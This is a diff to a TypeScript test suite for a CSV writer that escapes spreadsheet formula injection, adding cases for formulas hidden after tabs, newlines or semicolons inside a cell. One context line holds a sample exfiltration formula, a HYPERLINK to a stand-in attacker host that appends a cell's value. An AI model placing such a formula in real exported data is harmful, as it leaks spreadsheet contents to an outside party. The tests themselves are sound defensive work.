@@ -552,10 +552,27 @@ test(formula, '=HYPERLINK("http://evil.example/?"&A1,"click")');
 test(formula, '+82');
 test(formula, '-1+1');
 test(formula, '@SUM(A1)');
-test(formula, '\t=1');
-test(formula, '\r=1');
 test(formula, '  =1');
 test(formula, '＝1');
+
+const formulaWithin = test.macro<[string, string]>({
+  exec(t, text, safe) {
+    t.deepEqual(readCsv(csvLine(['x', text])), [['x', safe]]);
+  },
+  title: (_, text) => `${JSON.stringify(text)} has no formula in it any more`,
+});
+
+test(formulaWithin, '\t=1', "'\t'=1");
+test(formulaWithin, '\r=1', "'\r'=1");
+test(formulaWithin, 'x;=1+1', "x;'=1+1");
+test(formulaWithin, 'x\t=1+1', "x\t'=1+1");
+test(formulaWithin, 'x\n@SUM(A1)', "x\n'@SUM(A1)");
+test(formulaWithin, 'x;"=1+1"', 'x;\'"=1+1"');
+test(formulaWithin, 'x; ＝1;-2', "x;' ＝1;'-2");
+
+test('a cell is quoted where programs of other languages would split it', (t) => {
+  t.is(csvLine(['a;b', 'a\tb']), '"a;b","a\tb"\r\n');
+});
 
 test('numbers, also negative ones, stay numbers', (t) => {
   t.is(csvLine([-1, 0]), '-1,0\r\n');
@@ -563,17 +580,15 @@ test('numbers, also negative ones, stay numbers', (t) => {
 
 test('whatever the cells hold, they are read as they were, and none is a formula', (t) => {
   const text = fc.string({
-    unit: fc.constantFrom('a', '가', '"', ',', '\n', '\r', '\t', '=', '+', '@', ' ', "'"),
+    unit: fc.constantFrom('a', '가', '"', ',', ';', '\n', '\r', '\t', '=', '+', '@', ' ', "'"),
   });
   fc.assert(
     fc.property(fc.array(text, { minLength: 1 }), (cells) => {
       const [read = [], ...more] = readCsv(csvLine(cells));
       t.is(more.length, 0);
-      t.deepEqual(
-        read.map((cell, index) => (cell === cells[index] ? cell : cell.replace(/^'/, ''))),
-        cells,
-      );
-      for (const cell of read) t.notRegex(cell, /^\s*[=+@]/);
+      const withoutApostrophes = (list: readonly string[]) => list.map((cell) => cell.replaceAll("'", ''));
+      t.deepEqual(withoutApostrophes(read), withoutApostrophes(cells));
+      for (const part of read.flatMap((cell) => cell.split(/[;\t\r\n]/))) t.notRegex(part, /^[\s"]*[=+@]/);
     }),
   );
 });
